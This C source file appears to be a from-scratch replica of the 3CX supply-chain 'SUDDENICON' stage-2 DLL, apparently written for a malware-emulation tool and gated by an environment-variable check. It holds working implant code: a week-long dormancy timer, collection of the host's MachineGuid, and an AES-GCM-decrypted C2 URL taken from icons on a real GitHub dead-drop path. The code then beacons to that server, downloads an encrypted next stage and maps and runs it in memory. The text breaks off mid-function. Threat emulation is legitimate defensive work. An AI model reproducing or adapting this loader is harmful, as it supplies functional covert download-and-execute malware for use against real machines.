/*
 * samcli.dll - chainreplay synthetic stage 2 ("SUDDENICON"-like), written from scratch.
 *
 * Benign and inert: nothing happens unless the environment variable
 * CHAINREPLAY_SANDBOX equals "replay-only" (checked before any file, registry,
 * sync-object or network activity). Meant to run only inside the chainreplay
 * emulator, which serves the fake icon / C2 responses.
 *
 * Export:
 *   HRESULT WINAPI DllGetClassObject(DWORD a, DWORD b, const char *user_agent)
 *     called by the stage-2 shellcode's reflective loader with (1200, 2400, <3CX UA>).
 *     Copies its arguments to the heap, starts the worker thread, changes the
 *     protection of its own PE header page (PAGE_READONLY), returns S_OK.
 *
 * Worker thread:
 *   a. <dir of the host exe>\manifest: read it if present (decimal unix seconds),
 *      otherwise write now + 604800 + rand() % 1800000; sleep until then
 *      (at most SLEEP_ROUNDS Sleep calls, so a Sleep that does not advance the
 *      clock cannot hang the sample).
 *   b. HKLM\SOFTWARE\Microsoft\Cryptography\MachineGuid.
 *   c. https://raw.githubusercontent.com/IconStorages/images/main/icon%d.ico,
 *      %d = 1 + rand() % 15 (WinINet InternetOpenUrlW).
 *   d. ICO -> bytes after the PNG IEND chunk+CRC: '$' base64(blob),
 *      blob = [u32 LE plaintext length][16-byte GCM tag][ciphertext];
 *      AES-256-GCM (BCrypt) with ICON_KEY / ICON_NONCE -> C2 URL (ASCII).
 *   e. POST <path> to <host>:443 with "Cookie: __tutma=<guid>" and body
 *      "__tutmc=<guid>"; response body = ASCII path of the next stage.
 *   f. GET <that path> on the same connection; body = blob in the same layout,
 *      AES-256-GCM with STAGE3_KEY / STAGE3_NONCE -> iconic.dll.
 *   g. maps it in memory (sections, relocations, imports, protections), calls
 *      its DllMain(DLL_PROCESS_ATTACH), then
 *      IconicMain(const wchar_t *c2_host, const wchar_t *c2_path, const wchar_t *guid).
 */
#define WIN32_LEAN_AND_MEAN
#include <windows.h>
#include <wininet.h>
#include <bcrypt.h>

#ifndef STATUS_SUCCESS
#define STATUS_SUCCESS ((NTSTATUS)0)
#endif

#define EXPORT __declspec(dllexport)

/* msvcrt imports, no CRT startup */
__declspec(dllimport) void __cdecl srand(unsigned int seed);
__declspec(dllimport) int __cdecl rand(void);

#define SLEEP_ROUNDS 64
#define DORMANCY_BASE 604800u          /* 7 days */
#define DORMANCY_JITTER 1800000u
#define MAX_DOWNLOAD (16u * 1024u * 1024u)

/* Variant builds (chainreplay variant, scenarios/3cx/variant.toml) override ICON_KEY_BYTES,
 * ICON_INDEX_MIN/MAX and DEAD_DROP_WINHTTP with -D; the defaults build the committed sample. */
#ifdef ICON_KEY_BYTES
static const unsigned char ICON_KEY[32] = {ICON_KEY_BYTES};
#else
static const unsigned char ICON_KEY[32] = {
    0xed, 0x99, 0x17, 0x62, 0x9f, 0x8d, 0xfc, 0x8e, 0xd6, 0x64, 0x3e, 0xef, 0x78, 0xe5, 0x59, 0x05,
    0x0a, 0x07, 0xd1, 0xb4, 0xe3, 0x10, 0xc3, 0xf6, 0xcd, 0x2b, 0x28, 0xe0, 0x24, 0x94, 0xe9, 0x7a};
#endif
#ifndef ICON_INDEX_MIN
#define ICON_INDEX_MIN 1
#endif
#ifndef ICON_INDEX_MAX
#define ICON_INDEX_MAX 15
#endif
static const unsigned char ICON_NONCE[12] = {
    0x2c, 0xf5, 0xea, 0x0b, 0x72, 0x5d, 0x32, 0x82, 0xc7, 0x2a, 0xa2, 0x43};
static const unsigned char STAGE3_KEY[32] = {
    0x08, 0xa0, 0x90, 0x08, 0x93, 0x65, 0xe4, 0x62, 0xa9, 0xd3, 0xbe, 0xb4, 0xa3, 0x10, 0x2a, 0x1a,
    0x30, 0xcb, 0x13, 0x19, 0x95, 0x07, 0x9a, 0xdd, 0x18, 0x45, 0x07, 0x4f, 0xbd, 0x21, 0x6c, 0x66};
static const unsigned char STAGE3_NONCE[12] = {
    0x43, 0x45, 0xfb, 0xe0, 0x71, 0x36, 0x3b, 0xd9, 0x55, 0x2a, 0xa9, 0x34};

static const wchar_t ICON_URL_FMT[] =
    L"https://raw.githubusercontent.com/IconStorages/images/main/icon%d.ico";

extern IMAGE_DOS_HEADER __ImageBase;

/* ------------------------------------------------------------------ libc bits */

void *memset(void *d, int c, size_t n)
{
    unsigned char *p = (unsigned char *)d;
    while (n--)
        *p++ = (unsigned char)c;
    return d;
}

void *memcpy(void *d, const void *s, size_t n)
{
    unsigned char *p = (unsigned char *)d;
    const unsigned char *q = (const unsigned char *)s;
    while (n--)
        *p++ = *q++;
    return d;
}

int memcmp(const void *a, const void *b, size_t n)
{
    const unsigned char *p = (const unsigned char *)a, *q = (const unsigned char *)b;
    for (; n; n--, p++, q++)
        if (*p != *q)
            return *p - *q;
    return 0;
}

static size_t wlen(const wchar_t *s)
{
    size_t n = 0;
    while (s[n])
        n++;
    return n;
}

static size_t alen(const char *s)
{
    size_t n = 0;
    while (s[n])
        n++;
    return n;
}

/* Also accepts a 32-bit INVALID_HANDLE_VALUE (0xFFFFFFFF) returned to 64-bit code. */
static int bad_handle(HANDLE h)
{
    return h == INVALID_HANDLE_VALUE || (DWORD)(ULONG_PTR)h == 0xFFFFFFFFu || h == NULL;
}

static void *xalloc(size_t n)
{
    return HeapAlloc(GetProcessHeap(), HEAP_ZERO_MEMORY, n);
}

static void xfree(void *p)
{
    if (p)
        HeapFree(GetProcessHeap(), 0, p);
}

/* Appends the decimal form of v to a wide buffer; returns the new end. */
static wchar_t *wput_u(wchar_t *out, unsigned long long v)
{
    wchar_t tmp[24];
    int n = 0;
    do {
        tmp[n++] = (wchar_t)(L'0' + (int)(v % 10));
        v /= 10;
    } while (v);
    while (n)
        *out++ = tmp[--n];
    return out;
}

/* Tiny swprintf: supports %d (int), %s (wide string) and %%. */
static void wfmt(wchar_t *out, size_t cap, const wchar_t *fmt, const void *arg)
{
    wchar_t *end = out + cap - 1;
    for (; *fmt && out < end; fmt++) {
        if (fmt[0] == L'%' && fmt[1] == L'd') {
            wchar_t num[24], *e = num;
            int v = *(const int *)arg;
            if (v < 0) {
                *e++ = L'-';
                v = -v;
            }
            e = wput_u(e, (unsigned)v);
            for (wchar_t *q = num; q < e && out < end; q++)
                *out++ = *q;
            fmt++;
        } else if (fmt[0] == L'%' && fmt[1] == L's') {
            for (const wchar_t *q = (const wchar_t *)arg; *q && out < end; q++)
                *out++ = *q;
            fmt++;
        } else if (fmt[0] == L'%' && fmt[1] == L'%') {
            *out++ = L'%';
            fmt++;
        } else {
            *out++ = *fmt;
        }
    }
    *out = 0;
}

static int sandbox_ok(void)
{
    static const wchar_t want[] = L"replay-only";
    wchar_t buf[32];
    DWORD n = GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", buf, 32);
    if (n != sizeof(want) / sizeof(want[0]) - 1)
        return 0;
    for (DWORD i = 0; i < n; i++)
        if (buf[i] != want[i])
            return 0;
    return 1;
}

static unsigned long long unix_now(void)
{
    FILETIME ft;
    ULARGE_INTEGER u;
    GetSystemTimeAsFileTime(&ft);
    u.LowPart = ft.dwLowDateTime;
    u.HighPart = ft.dwHighDateTime;
    if (u.QuadPart < 116444736000000000ULL)
        return 0;
    return (u.QuadPart - 116444736000000000ULL) / 10000000ULL;
}

/* ------------------------------------------------------------------ a. dormancy */

static void app_dir_file(wchar_t *out, DWORD cap, const wchar_t *name)
{
    DWORD n = GetModuleFileNameW(NULL, out, cap);
    if (n == 0 || n >= cap)
        n = 0;
    out[n] = 0;
    while (n && out[n - 1] != L'\\' && out[n - 1] != L'/')
        n--;
    out[n] = 0;
    size_t k = wlen(name);
    if (n + k + 1 > cap)
        return;
    memcpy(out + n, name, (k + 1) * sizeof(wchar_t));
}

static int read_manifest(const wchar_t *path, unsigned long long *target)
{
    char buf[32];
    DWORD got = 0;
    HANDLE h = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING,
                           FILE_ATTRIBUTE_NORMAL, NULL);
    if (bad_handle(h))
        return 0;
    if (!ReadFile(h, buf, sizeof(buf) - 1, &got, NULL))
        got = 0;
    CloseHandle(h);
    unsigned long long v = 0;
    DWORD i = 0;
    for (; i < got && buf[i] >= '0' && buf[i] <= '9'; i++)
        v = v * 10 + (unsigned)(buf[i] - '0');
    if (i == 0)
        return 0;
    *target = v;
    return 1;
}

static void write_manifest(const wchar_t *path, unsigned long long v)
{
    char tmp[24], out[24];
    int n = 0, k = 0;
    do {
        tmp[n++] = (char)('0' + (int)(v % 10));
        v /= 10;
    } while (v);
    while (n)
        out[k++] = tmp[--n];
    HANDLE h = CreateFileW(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (bad_handle(h))
        return;
    DWORD wr = 0;
    WriteFile(h, out, (DWORD)k, &wr, NULL);
    CloseHandle(h);
}

static void dormancy(void)
{
    wchar_t path[MAX_PATH + 16];
    unsigned long long target;
    app_dir_file(path, MAX_PATH + 16, L"manifest");
    if (!read_manifest(path, &target)) {
        target = unix_now() + DORMANCY_BASE + (unsigned)rand() % DORMANCY_JITTER;
        write_manifest(path, target);
    }
    for (int round = 0; round < SLEEP_ROUNDS; round++) {
        unsigned long long now = unix_now();
        if (now >= target)
            break;
        unsigned long long ms = (target - now) * 1000ULL;
        if (ms > 0xFFFFFFFEULL)
            ms = 0xFFFFFFFEULL;
        Sleep((DWORD)ms);
    }
}

/* ------------------------------------------------------------------ b. machine id */

static int machine_guid(wchar_t *out, DWORD cch)
{
    HKEY h;
    DWORD type = 0, cb = (cch - 1) * sizeof(wchar_t);
    out[0] = 0;
    if (RegOpenKeyExW(HKEY_LOCAL_MACHINE, L"SOFTWARE\\Microsoft\\Cryptography", 0,
                      KEY_READ | KEY_WOW64_64KEY, &h) != ERROR_SUCCESS)
        return 0;
    LONG rc = RegQueryValueExW(h, L"MachineGuid", NULL, &type, (BYTE *)out, &cb);
    RegCloseKey(h);
    if (rc != ERROR_SUCCESS || type != REG_SZ)
        return 0;
    out[cb / sizeof(wchar_t) < cch ? cb / sizeof(wchar_t) : cch - 1] = 0;
    return out[0] != 0;
}

/* ------------------------------------------------------------------ HTTP helpers */

typedef struct {
    unsigned char *p;
    DWORD n;
} BUF;

static int read_all(HINTERNET h, BUF *b)
{
    DWORD cap = 0x4000, got;
    b->n = 0;
    b->p = (unsigned char *)xalloc(cap + 1);
    if (!b->p)
        return 0;
    for (;;) {
        if (cap - b->n < 0x1000) {
            if (cap >= MAX_DOWNLOAD)
                break;
            unsigned char *q = (unsigned char *)xalloc(cap * 2 + 1);
            if (!q)
                break;
            memcpy(q, b->p, b->n);
            xfree(b->p);
            b->p = q;
            cap *= 2;
        }
        got = 0;
        if (!InternetReadFile(h, b->p + b->n, cap - b->n, &got) || got == 0)
            break;
        b->n += got;
    }
    b->p[b->n] = 0;
    return b->n != 0;
}

static DWORD status_code(HINTERNET h)
{
    DWORD code = 0, len = sizeof(code);
    if (!HttpQueryInfoW(h, HTTP_QUERY_STATUS_CODE | HTTP_QUERY_FLAG_NUMBER, &code, &len, NULL))
        return 0;
    return code;
}

/* ------------------------------------------------------------------ d. trailer + AES-GCM */

static int b64val(unsigned char c)
{
    if (c >= 'A' && c <= 'Z')
        return c - 'A';
    if (c >= 'a' && c <= 'z')
        return c - 'a' + 26;
    if (c >= '0' && c <= '9')
        return c - '0' + 52;
    if (c == '+' || c == '-')
        return 62;
    if (c == '/' || c == '_')
        return 63;
    return -1;
}

/* Decodes base64 (stops at '=' or the first non-alphabet byte). In-place safe. */
static DWORD b64decode(const unsigned char *in, DWORD n, unsigned char *out)
{
    DWORD o = 0, acc = 0;
    int bits = 0;
    for (DWORD i = 0; i < n; i++) {
        int v = b64val(in[i]);
        if (v < 0)
            break;
        acc = (acc << 6) | (DWORD)v;
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            out[o++] = (unsigned char)(acc >> bits);
        }
    }
    return o;
}

/* blob = [u32 LE plaintext length][16-byte tag][ciphertext]; returns a new buffer. */
static unsigned char *gcm_open(const unsigned char *blob, DWORD n, const unsigned char *key,
                               const unsigned char *nonce, DWORD *out_len)
{
    BCRYPT_ALG_HANDLE alg = NULL;
    BCRYPT_KEY_HANDLE hk = NULL;
    BCRYPT_AUTHENTICATED_CIPHER_MODE_INFO info;
    unsigned char tag[16], *pt = NULL;
    ULONG done = 0;
    DWORD want, ctlen;
    NTSTATUS st;

    if (n < 20)
        return NULL;
    want = (DWORD)blob[0] | ((DWORD)blob[1] << 8) | ((DWORD)blob[2] << 16) | ((DWORD)blob[3] << 24);
    ctlen = n - 20;
    if (want != ctlen)
        return NULL;
    memcpy(tag, blob + 4, 16);
    pt = (unsigned char *)xalloc(ctlen + 1);
    if (!pt)
        return NULL;

    if (BCryptOpenAlgorithmProvider(&alg, BCRYPT_AES_ALGORITHM, NULL, 0) != STATUS_SUCCESS)
        goto fail;
    if (BCryptSetProperty(alg, BCRYPT_CHAINING_MODE, (PUCHAR)BCRYPT_CHAIN_MODE_GCM,
                          sizeof(BCRYPT_CHAIN_MODE_GCM), 0) != STATUS_SUCCESS)
        goto fail;
    if (BCryptGenerateSymmetricKey(alg, &hk, NULL, 0, (PUCHAR)key, 32, 0) != STATUS_SUCCESS)
        goto fail;
    memset(&info, 0, sizeof(info));
    info.cbSize = sizeof(info);
    info.dwInfoVersion = BCRYPT_AUTHENTICATED_CIPHER_MODE_INFO_VERSION;
    info.pbNonce = (PUCHAR)nonce;
    info.cbNonce = 12;
    info.pbTag = tag;
    info.cbTag = 16;
    st = BCryptDecrypt(hk, (PUCHAR)(blob + 20), ctlen, &info, NULL, 0, pt, ctlen, &done, 0);
    BCryptDestroyKey(hk);
    BCryptCloseAlgorithmProvider(alg, 0);
    if (st != STATUS_SUCCESS || done != ctlen) {
        xfree(pt);
        return NULL;
    }
    pt[ctlen] = 0;
    *out_len = ctlen;
    return pt;
fail:
    if (hk)
        BCryptDestroyKey(hk);
    if (alg)
        BCryptCloseAlgorithmProvider(alg, 0);
    xfree(pt);
    return NULL;
}

/* Finds the '$'+base64 trailer after the PNG IEND chunk and decrypts the C2 URL. */
static char *icon_to_url(BUF *ico)
{
    DWORD i, end;
    for (i = 0; i + 8 <= ico->n; i++)
        if (ico->p[i] == 'I' && ico->p[i + 1] == 'E' && ico->p[i + 2] == 'N' && ico->p[i + 3] == 'D')
            break;
    if (i + 8 > ico->n)
        return NULL;
    end = i + 4 + 4; /* chunk type + CRC (IEND has no data) */
    if (end >= ico->n || ico->p[end] != '$')
        return NULL;
    end++;
    DWORD blen = b64decode(ico->p + end, ico->n - end, ico->p + end);
    DWORD plen = 0;
    return (char *)gcm_open(ico->p + end, blen, ICON_KEY, ICON_NONCE, &plen);
}

#ifdef DEAD_DROP_WINHTTP
/* The dead drop fetched with WinHTTP instead of WinINet (variant builds only). Declared here:
 * winhttp.h and wininet.h cannot be included together. */
#define DD_WINHTTP_FLAG_SECURE 0x00800000
#define DD_WINHTTP_QUERY_STATUS_CODE 19
#define DD_WINHTTP_QUERY_FLAG_NUMBER 0x20000000
__declspec(dllimport) HINTERNET WINAPI WinHttpOpen(LPCWSTR, DWORD, LPCWSTR, LPCWSTR, DWORD);
__declspec(dllimport) HINTERNET WINAPI WinHttpConnect(HINTERNET, LPCWSTR, INTERNET_PORT, DWORD);
__declspec(dllimport) HINTERNET WINAPI WinHttpOpenRequest(HINTERNET, LPCWSTR, LPCWSTR, LPCWSTR, LPCWSTR,
                                                          LPCWSTR *, DWORD);
__declspec(dllimport) BOOL WINAPI WinHttpSendRequest(HINTERNET, LPCWSTR, DWORD, LPVOID, DWORD, DWORD, DWORD_PTR);
__declspec(dllimport) BOOL WINAPI WinHttpReceiveResponse(HINTERNET, LPVOID);
__declspec(dllimport) BOOL WINAPI WinHttpQueryHeaders(HINTERNET, DWORD, LPCWSTR, LPVOID, LPDWORD, LPDWORD);
__declspec(dllimport) BOOL WINAPI WinHttpReadData(HINTERNET, LPVOID, DWORD, LPDWORD);
__declspec(dllimport) BOOL WINAPI WinHttpCloseHandle(HINTERNET);

static const wchar_t ICON_HOST[] = L"raw.githubusercontent.com";
static const wchar_t ICON_PATH_FMT[] = L"/IconStorages/images/main/icon%d.ico";

static int winhttp_read_all(HINTERNET h, BUF *b)
{
    DWORD cap = 0x4000, got;
    b->n = 0;
    b->p = (unsigned char *)xalloc(cap + 1);
    if (!b->p)
        return 0;
    for (;;) {
        if (cap - b->n < 0x1000) {
            if (cap >= MAX_DOWNLOAD)
                break;
            unsigned char *q = (unsigned char *)xalloc(cap * 2 + 1);
            if (!q)
                break;
            memcpy(q, b->p, b->n);
            xfree(b->p);
            b->p = q;
            cap *= 2;
        }
        got = 0;
        if (!WinHttpReadData(h, b->p + b->n, cap - b->n, &got) || got == 0)
            break;
        b->n += got;
    }
    b->p[b->n] = 0;
    return b->n != 0;
}

/* session: a WinHttpOpen handle. */
static char *resolve_c2(HINTERNET session)
{
    wchar_t path[160];
    int idx = ICON_INDEX_MIN + rand() % (ICON_INDEX_MAX - ICON_INDEX_MIN + 1);
    BUF ico = {0};
    char *c2 = NULL;
    DWORD code = 0, len = sizeof(code);

    wfmt(path, 160, ICON_PATH_FMT, &idx);
    HINTERNET conn = WinHttpConnect(session, ICON_HOST, INTERNET_DEFAULT_HTTPS_PORT, 0);
    if (!conn)
        return NULL;
    HINTERNET req = WinHttpOpenRequest(conn, L"GET", path, NULL, NULL, NULL, DD_WINHTTP_FLAG_SECURE);
    if (req && WinHttpSendRequest(req, NULL, 0, NULL, 0, 0, 0) && WinHttpReceiveResponse(req, NULL) &&
        WinHttpQueryHeaders(req, DD_WINHTTP_QUERY_STATUS_CODE | DD_WINHTTP_QUERY_FLAG_NUMBER, NULL, &code, &len,
                            NULL) &&
        code == 200 && winhttp_read_all(req, &ico))
        c2 = icon_to_url(&ico);
    if (req)
        WinHttpCloseHandle(req);
    WinHttpCloseHandle(conn);
    xfree(ico.p);
    return c2;
}
#define DEAD_DROP_OPEN(ua) WinHttpOpen((ua), 0, NULL, NULL, 0)
#define DEAD_DROP_CLOSE(h) WinHttpCloseHandle(h)
#else
static char *resolve_c2(HINTERNET inet)
{
    wchar_t url[160];
    int idx = ICON_INDEX_MIN + rand() % (ICON_INDEX_MAX - ICON_INDEX_MIN + 1);
    BUF ico = {0};
    char *c2 = NULL;

    wfmt(url, 160, ICON_URL_FMT, &idx);
    HINTERNET h = InternetOpenUrlW(inet, url, NULL, 0,
                                   INTERNET_FLAG_RELOAD | INTERNET_FLAG_SECURE |
                                       INTERNET_FLAG_NO_CACHE_WRITE | INTERNET_FLAG_NO_UI,
                                   0);
    if (!h)
        return NULL;
    if (status_code(h) == 200 && read_all(h, &ico))
        c2 = icon_to_url(&ico);
    InternetCloseHandle(h);
    xfree(ico.p);
    return c2;
}

#define DEAD_DROP_OPEN(ua) InternetOpenW((ua), INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0)
#define DEAD_DROP_CLOSE(h) InternetCloseHandle(h)
#endif

/* ------------------------------------------------------------------ e./f. C2 */

/* https://host[:port]/path -> wide host, port, wide path */
static int split_url(const char *url, wchar_t *host, DWORD hcap, INTERNET_PORT *port,
                     wchar_t *path, DWORD pcap)
{
    const char *p = url;
    DWORD n = 0;
    *port = INTERNET_DEFAULT_HTTPS_PORT;
    if (p[0] == 'h' && p[1] == 't' && p[2] == 't' && p[3] == 'p' && p[4] == 's' && p[5] == ':' &&
        p[6] == '/' && p[7] == '/')
        p += 8;
    else
        return 0;
    while (*p && *p != '/' && *p != ':' && n + 1 < hcap)
        host[n++] = (wchar_t)(unsigned char)*p++;
    host[n] = 0;
    if (*p == ':') {
        unsigned v = 0;
        for (p++; *p >= '0' && *p <= '9'; p++)
            v = v * 10 + (unsigned)(*p - '0');
        *port = (INTERNET_PORT)v;
    }
    n = 0;
    if (*p != '/')
        path[n++] = L'/';
    while (*p && *p != '\r' && *p != '\n' && n + 1 < pcap)
        path[n++] = (wchar_t)(unsigned char)*p++;
    path[n] = 0;
    return host[0] != 0;
}

static HINTERNET open_request(HINTERNET conn, const wchar_t *verb, const wchar_t *path,
                              const wchar_t *cookie_hdr)
{
    static const wchar_t *accept[] = {L"*/*", NULL};
    HINTERNET r = HttpOpenRequestW(conn, verb, path, NULL, NULL, accept,
                                   INTERNET_FLAG_SECURE | INTERNET_FLAG_RELOAD |
                                       INTERNET_FLAG_NO_CACHE_WRITE | INTERNET_FLAG_NO_COOKIES,
                                   0);
    if (!r)
        return NULL;
    HttpAddRequestHeadersW(r, cookie_hdr, (DWORD)-1, HTTP_ADDREQ_FLAG_ADD | HTTP_ADDREQ_FLAG_REPLACE);
    return r;
}

/* ------------------------------------------------------------------ g. in-memory PE mapping */

typedef BOOL(WINAPI *DLLMAIN_FN)(HINSTANCE, DWORD, LPVOID);
typedef void(WINAPI *ICONIC_FN)(const wchar_t *, const wchar_t *, const wchar_t *);

static DWORD section_protect(DWORD ch)
{
    int x = (ch & IMAGE_SCN_MEM_EXECUTE) != 0, w = (ch & IMAGE_SCN_MEM_WRITE) != 0;
    if (x)
        return w ? PAGE_EXECUTE_READWRITE : PAGE_EXECUTE_READ;
    return w ? PAGE_READWRITE : PAGE_READONLY;
}

static unsigned char *map_image(const unsigned char *raw, DWORD n)
{
    const IMAGE_DOS_HEADER *dos = (const IMAGE_DOS_HEADER *)raw;
    if (n < sizeof(*dos) || dos->e_magic != IMAGE_DOS_SIGNATURE ||
        (DWORD)dos->e_lfanew + sizeof(IMAGE_NT_HEADERS) > n)
        return NULL;
    const IMAGE_NT_HEADERS *nt = (const IMAGE_NT_HEADERS *)(raw + dos->e_lfanew);
    if (nt->Signature != IMAGE_NT_SIGNATURE || nt->OptionalHeader.Magic != IMAGE_NT_OPTIONAL_HDR_MAGIC)
        return NULL;
    DWORD size = nt->OptionalHeader.SizeOfImage;
    unsigned char *base = (unsigned char *)VirtualAlloc(NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!base)
        return NULL;

    memcpy(base, raw, nt->OptionalHeader.SizeOfHeaders);
    const IMAGE_SECTION_HEADER *sec = IMAGE_FIRST_SECTION(nt);
    WORD ns = nt->FileHeader.NumberOfSections;
    for (WORD i = 0; i < ns; i++) {
        DWORD cnt = sec[i].SizeOfRawData;
        if (sec[i].PointerToRawData + cnt > n)
            cnt = 0;
        if (cnt > sec[i].Misc.VirtualSize && sec[i].Misc.VirtualSize)
            cnt = sec[i].Misc.VirtualSize;
        if (cnt)
            memcpy(base + sec[i].VirtualAddress, raw + sec[i].PointerToRawData, cnt);
    }

    /* relocations */
    ULONG_PTR delta = (ULONG_PTR)base - (ULONG_PTR)nt->OptionalHeader.ImageBase;
    const IMAGE_DATA_DIRECTORY *rd = &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC];
    if (delta && rd->Size) {
        unsigned char *p = base + rd->VirtualAddress, *e = p + rd->Size;
        while (p + sizeof(IMAGE_BASE_RELOCATION) <= e) {
            IMAGE_BASE_RELOCATION *blk = (IMAGE_BASE_RELOCATION *)p;
            if (blk->SizeOfBlock < sizeof(*blk))
                break;
            WORD *ent = (WORD *)(p + sizeof(*blk));
            DWORD cnt = (blk->SizeOfBlock - sizeof(*blk)) / sizeof(WORD);
            for (DWORD k = 0; k < cnt; k++) {
                int type = ent[k] >> 12;
                unsigned char *at = base + blk->VirtualAddress + (ent[k] & 0xfff);
                if (type == IMAGE_REL_BASED_DIR64)
                    *(ULONGLONG *)at += (ULONGLONG)delta;
                else if (type == IMAGE_REL_BASED_HIGHLOW)
                    *(DWORD *)at += (DWORD)delta;
            }
            p += blk->SizeOfBlock;
        }
    }

    /* imports */
    const IMAGE_DATA_DIRECTORY *id = &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT];
    if (id->Size) {
        IMAGE_IMPORT_DESCRIPTOR *imp = (IMAGE_IMPORT_DESCRIPTOR *)(base + id->VirtualAddress);
        for (; imp->Name; imp++) {
            HMODULE m = LoadLibraryA((const char *)(base + imp->Name));
            if (!m)
                goto fail;
            IMAGE_THUNK_DATA *oft = (IMAGE_THUNK_DATA *)(base + (imp->OriginalFirstThunk ? imp->OriginalFirstThunk
                                                                                         : imp->FirstThunk));
            IMAGE_THUNK_DATA *ft = (IMAGE_THUNK_DATA *)(base + imp->FirstThunk);
            for (; oft->u1.AddressOfData; oft++, ft++) {
                FARPROC f;
                if (IMAGE_SNAP_BY_ORDINAL(oft->u1.Ordinal))
                    f = GetProcAddress(m, (LPCSTR)(ULONG_PTR)IMAGE_ORDINAL(oft->u1.Ordinal));
                else
                    f = GetProcAddress(m, ((IMAGE_IMPORT_BY_NAME *)(base + oft->u1.AddressOfData))->Name);
                if (!f)
                    goto fail;
                ft->u1.Function = (ULONG_PTR)f;
            }
        }
    }

    /* protections */
    DWORD old;
    VirtualProtect(base, nt->OptionalHeader.SizeOfHeaders, PAGE_READONLY, &old);
    for (WORD i = 0; i < ns; i++) {
        DWORD vs = sec[i].Misc.VirtualSize ? sec[i].Misc.VirtualSize : sec[i].SizeOfRawData;
        if (vs)
            VirtualProtect(base + sec[i].VirtualAddress, vs, section_protect(sec[i].Characteristics), &old);
    }
    return base;
fail:
    VirtualFree(base, 0, MEM_RELEASE);
    return NULL;
}

static void *find_export(unsigned char *base, const char *name)
{
    IMAGE_NT_HEADERS *nt = (IMAGE_NT_HEADERS *)(base + ((IMAGE_DOS_HEADER *)base)->e_lfanew);
    IMAGE_DATA_DIRECTORY *d = &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT];
    if (!d->Size)
        return NULL;
    IMAGE_EXPORT_DIRECTORY *ex = (IMAGE_EXPORT_DIRECTORY *)(base + d->VirtualAddress);
    DWORD *names = (DWORD *)(base + ex->AddressOfNames);
    WORD *ords = (WORD *)(base + ex->AddressOfNameOrdinals);
    DWORD *funcs = (DWORD *)(base + ex->AddressOfFunctions);
    size_t k = alen(name);
    for (DWORD i = 0; i < ex->NumberOfNames; i++) {
        const char *s = (const char *)(base + names[i]);
        if (memcmp(s, name, k + 1) == 0)
            return base + funcs[ords[i]];
    }
    return NULL;
}

static void run_stage3(unsigned char *pe, DWORD n, const wchar_t *host, const wchar_t *path,
                       const wchar_t *guid)
{
    unsigned char *base = map_image(pe, n);
    if (!base)
        return;
    IMAGE_NT_HEADERS *nt = (IMAGE_NT_HEADERS *)(base + ((IMAGE_DOS_HEADER *)base)->e_lfanew);
    if (nt->OptionalHeader.AddressOfEntryPoint) {
        DLLMAIN_FN dm = (DLLMAIN_FN)(base + nt->OptionalHeader.AddressOfEntryPoint);
        if (!dm((HINSTANCE)base, DLL_PROCESS_ATTACH, NULL))
            return;
    }
    ICONIC_FN entry = (ICONIC_FN)find_export(base, "IconicMain");
    if (entry)
        entry(host, path, guid);
}

/* ------------------------------------------------------------------ worker */

typedef struct {
    DWORD a, b;
    wchar_t ua[512];
} ARGS;

static void beacon(const ARGS *args, const char *c2url, const wchar_t *guid)
{
    wchar_t host[256], path[512], cookie[160], stage_path[512];
    char body[96];
    INTERNET_PORT port;
    BUF reply = {0}, payload = {0};
    HINTERNET inet = NULL, conn = NULL, req = NULL;

    if (!split_url(c2url, host, 256, &port, path, 512))
        return;
    wfmt(cookie, 160, L"Cookie: __tutma=%s\r\nAccept-Encoding: gzip, deflate, br\r\n", guid);
    {
        static const char pfx[] = "__tutmc=";
        DWORD k = 0;
        for (; pfx[k]; k++)
            body[k] = pfx[k];
        for (DWORD j = 0; guid[j] && k + 1 < sizeof(body); j++)
            body[k++] = (char)guid[j];
        body[k] = 0;
    }

    inet = InternetOpenW(args->ua, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    if (!inet)
        return;
    conn = InternetConnectW(inet, host, port, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    if (!conn)
        goto out;

    /* e. beacon: POST __tutmc=<guid>, answer = path of the next stage */
    req = open_request(conn, L"POST", path, cookie);
    if (!req)
        goto out;
    if (!HttpSendRequestW(req, L"Content-Type: application/x-www-form-urlencoded\r\n", (DWORD)-1, body,
                          (DWORD)alen(body)) ||
        status_code(req) != 200 || !read_all(req, &reply))
        goto out;
    InternetCloseHandle(req);
    req = NULL;
    {
        DWORD k = 0, j = 0;
        while (j < reply.n && (reply.p[j] == ' ' || reply.p[j] == '\r' || reply.p[j] == '\n'))
            j++;
        if (j >= reply.n || reply.p[j] != '/')
            goto out;
        for (; j < reply.n && reply.p[j] > ' ' && reply.p[j] < 0x7f && k + 1 < 512; j++)
            stage_path[k++] = (wchar_t)reply.p[j];
        stage_path[k] = 0;
    }

    /* f. payload */
    req = open_request(conn, L"GET", stage_path, cookie);
    if (!req)
        goto out;
    if (!HttpSendRequestW(req, NULL, 0, NULL, 0) || status_code(req) != 200 || !read_all(req, &payload))
        goto out;
    InternetCloseHandle(req);
    req = NULL;
    InternetCloseHandle(conn);
    conn = NULL;
    InternetCloseHandle(inet);
    inet = NULL;

    {
        DWORD plen = 0;
        unsigned char *pe = gcm_open(payload.p, payload.n, STAGE3_KEY, STAGE3_NONCE, &plen);
        xfree(payload.p);
        payload.p = NULL;
        if (pe) {
            /* g. */
            run_stage3(pe, plen, host, path, guid);
            xfree(pe);
        }
    }
out:
    if (req)
        InternetCloseHandle(req);
    if (conn)
        InternetCloseHandle(conn);
    if (inet)
        InternetCloseHandle(inet);
    xfree(reply.p);
    xfree(payload.p);
}

static DWORD WINAPI worker(LPVOID param)
{
    ARGS *args = (ARGS *)param;
    wchar_t guid[64];
    char *c2 = NULL;

    srand(GetTickCount());
    dormancy();
    if (!machine_guid(guid, 64))
        goto done;

    HINTERNET inet = DEAD_DROP_OPEN(args->ua);
    if (!inet)
        goto done;
    c2 = resolve_c2(inet);
